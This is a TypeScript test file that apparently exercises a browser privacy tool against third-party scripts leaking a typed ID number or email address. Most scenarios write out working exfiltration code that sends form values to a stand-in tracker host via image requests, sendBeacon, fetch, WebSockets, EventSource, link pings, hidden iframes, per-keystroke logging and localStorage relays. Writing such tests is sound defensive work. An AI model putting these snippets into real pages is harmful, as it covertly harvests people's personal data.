// Scenarios 48, 49, 51, 52 and 54 to 56: third parties that read along, and the ways out that are no fetch.
import type { Attempt } from '#tests/coverage/attempt.ts';
import { EMAIL, emailField, ID, idField, type Scenario } from '#tests/coverage/scenario.ts';
import { app, fault, says } from './parts.ts';

const third = { value: ID, to: 'third' } as const;
const typed = [['[name=idcard]', ID]] as const;
const BY_BROWSER = { chromium: 'recorded', firefox: 'held' } as const;

/** A form with a second step that the person goes on to while a tracker reads along. */
const STEPS = (tracker: string) => `<script src="https://${tracker}/t.js" defer></script>${idField}
<button type="button" id="next">Next</button><p id="said">Step 1</p><script>
document.querySelector('#next').onclick = () => { document.querySelector('#said').textContent = 'Step 2'; };</script>`;

const READS = (event: string, code: (url: string) => string) => (tracker: string) =>
  `
document.querySelector('[name=idcard]').addEventListener('${event}', ({ target }) => {
  const value = target.value;
  if (value.length > 17) ${code(`https://${tracker}`)};
});`;

const reader = (
  id: string,
  what: string,
  script: (tracker: string) => string,
  more: Pick<Scenario, 'expected' | 'row'>,
): Scenario => ({
  ...third,
  ...more,
  id,
  what,
  pages: ({ third }) => ({ 'site /': STEPS(third), 'third /t.js': script(third) }),
  send: async (tab) => {
    // As quick as people are: one who types eighteen keys at once is a program.
    await tab.click('[name=idcard]');
    await tab.page.keyboard.type(ID, { delay: 40 });
    await tab.press('Tab');
    await tab.press('Tab');
  },
  ends: null,
  also: async ({ tab }) => {
    await tab.click('#next');
    return fault(await says(tab, /Step 2/), 'the site works no more');
  },
});

const READERS: readonly Scenario[] = [
  reader(
    '48a',
    'A tracker reads the field on change and sends it with an image, before anything is submitted.',
    READS('change', (url) => `new Image().src = '${url}/p.gif?v=' + value`),
    { expected: BY_BROWSER, row: { channel: 'image' } },
  ),
  reader(
    '48b',
    'The same on blur, with a beacon.',
    READS('blur', (url) => `navigator.sendBeacon('${url}/b', JSON.stringify({ value }))`),
    { expected: 'held', row: { channel: 'beacon' } },
  ),
  reader(
    '48c',
    'The same on input, with fetch and keepalive.',
    READS(
      'input',
      (url) => `fetch('${url}/f', { method: 'POST', body: value, keepalive: true, mode: 'no-cors' }).catch(() => null)`,
    ),
    { expected: 'held', row: { channel: 'fetch' } },
  ),
  reader(
    '48d',
    'The same on input, with an image: sent in the very moment of the last key.',
    READS('input', (url) => `new Image().src = '${url}/p.gif?v=' + value`),
    { expected: BY_BROWSER, row: { channel: 'image' } },
  ),
];

const messages = ({ world, hosts }: Attempt) =>
  world.requests({ host: hosts.third, method: 'MESSAGE' }).map(({ body }) => body.toString());

const inOrder = async (attempt: Attempt): Promise<readonly string[]> => {
  const order = messages(attempt).join(', ');
  const wanted = attempt.mode === 'refused' ? /^join(, end)?$/ : new RegExp(`^join, id=${ID}, end$`);
  return fault(wanted.test(order), `the messages were ${order}`);
};

const SOCKET = (tracker: string) => `${idField}<button type="button" id="send">Send</button><p id="said"></p><script>
const socket = new WebSocket('wss://${tracker}/room');
let answers = 0;
socket.onmessage = () => { answers++; if (answers === 1) said.textContent = 'joined'; if (answers === 3) said.textContent = 'all answered'; };
socket.onopen = () => socket.send('join');
document.querySelector('#send').onclick = () => {
  socket.send('id=' + document.querySelector('input').value);
  socket.send('end');
};</script>`;

const WAYS: readonly Scenario[] = [
  {
    ...third,
    id: '49',
    what: 'A beacon when the page is left by a link.',
    pages: ({ third, other }) => ({
      'site /': `${idField}<a id="leave" href="https://${other}/next">Leave</a><script>
addEventListener('pagehide', () => navigator.sendBeacon('https://${third}/bye', document.querySelector('input').value));</script>`,
      'other /next': '<h1>Elsewhere</h1>',
    }),
    type: typed,
    send: '#leave',
    expected: BY_BROWSER,
    row: { channel: 'beacon', page: 'site49.test' as never },
  },
  {
    ...third,
    id: '51',
    what: 'A socket: joined, then a message with the value and one more; their order stays.',
    pages: ({ third }) => ({ 'site /': SOCKET(third) }),
    type: typed,
    send: async (tab) => {
      await tab.waitFor("said.textContent === 'joined'");
      await tab.click('#send');
    },
    expected: 'held',
    row: { channel: 'socket' },
    also: inOrder,
  },
  {
    ...third,
    id: '52a',
    what: 'The address of an EventSource.',
    pages: ({ third }) => ({
      'site /': app(
        idField,
        `const source = new EventSource('https://${third}/events?id=' + value);
await new Promise((done) => { source.onopen = source.onerror = done; }); source.close()`,
      ),
      'third /events': () => ({ headers: { 'content-type': 'text/event-stream' }, body: 'data: hello\n\n' }),
    }),
    type: typed,
    send: '#send',
    expected: BY_BROWSER,
    row: (browser, mode) => ({ channel: browser === 'firefox' && mode === 'refused' ? 'fetch' : 'stream' }),
    note: 'Chromium lets nobody but a page’s own script stand before a constructor: decision 0013. That it is an EventSource only its headers tell, and one that is refused never had any: it is on the record as a fetch.',
  },
  {
    ...third,
    id: '52b',
    what: 'fetchLater, due at once.',
    pages: ({ third }) => ({
      'site /': app(
        idField,
        `globalThis.fetchLater?.('https://${third}/later', { method: 'POST', body: value, activateAfter: 0, mode: 'no-cors' })`,
      ),
    }),
    type: typed,
    send: '#send',
    expected: { chromium: 'held', firefox: 'nothing' },
    row: { channel: 'later' },
    note: 'Firefox has no fetchLater.',
  },
  {
    ...third,
    id: '52c',
    what: 'The ping of a link.',
    pages: ({ third, other }) => ({
      'site /': `${idField}<a id="leave" href="https://${other}/next">Leave</a><script>
document.querySelector('input').oninput = ({ target }) => { document.querySelector('a').ping = 'https://${third}/ping?id=' + target.value; };</script>`,
      'other /next': '<h1>Elsewhere</h1>',
    }),
    type: typed,
    send: '#leave',
    expected: { chromium: 'held', firefox: 'nothing' },
    row: { channel: 'ping' },
    note: 'Firefox sends no pings unless a person turns them on.',
  },
  ...['fetch', 'beacon'].map(
    (way, index): Scenario => ({
      ...third,
      id: `54${'ab'[index]}`,
      what: `${way === 'fetch' ? 'fetch' : 'sendBeacon'} of a frame that was made in the same task.`,
      pages: ({ third }) => ({
        'site /': app(
          idField,
          `const frame = document.createElement('iframe');
frame.hidden = true;
frame.srcdoc = '<p>nothing</p>';
document.body.append(frame);
const { contentWindow } = frame;
${
  way === 'fetch'
    ? `contentWindow.fetch('https://${third}/fresh', { method: 'POST', body: value, mode: 'no-cors', keepalive: true }).catch(() => null)`
    : `contentWindow.navigator.sendBeacon('https://${third}/fresh', value)`
}`,
        ),
      }),
      type: typed,
      send: '#send',
      expected: BY_BROWSER,
      row: { channel: way as 'fetch' },
    }),
  ),
];

const DELTAS = (tracker: string) => `${emailField}<script>
document.querySelector('input').addEventListener('keydown', (event) => {
  fetch('https://${tracker}/deltas', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ at: 0, key: event.key }) }).catch(() => null);
});</script>`;

const LATER: readonly Scenario[] = [
  {
    id: '55',
    what: 'A recorder sends each key by itself: no request carries the whole.',
    pages: ({ third }) => ({ 'site /': DELTAS(third) }),
    send: async (tab) => {
      await tab.click('[name=email]');
      // A quick typist: of the letters before the tab is watched a third may be missing.
      await tab.page.keyboard.type(EMAIL, { delay: 120 });
      await tab.press('Tab');
    },
    value: '"key":"',
    to: 'third',
    expected: 'recorded',
    row: { coding: ['streamed'] },
  },
  {
    id: '56',
    what: 'Kept in localStorage, sent with a beacon by the next page.',
    pages: ({ third }) => ({
      'site /': `${emailField}<a id="next" href="/next">Next</a><script>
document.querySelector('input').oninput = ({ target }) => { localStorage.setItem('lead', target.value); };</script>`,
      'site /next': `<h1>Next</h1><script>
setTimeout(() => navigator.sendBeacon('https://${third}/lead', localStorage.getItem('lead')), 300);</script>`,
    }),
    type: [['[name=email]', EMAIL]],
    send: '#next',
    value: EMAIL,
    to: 'third',
    expected: 'recorded',
    row: { channel: 'beacon' },
  },
];

export const TRACKERS: readonly Scenario[] = [...READERS, ...WAYS, ...LATER];
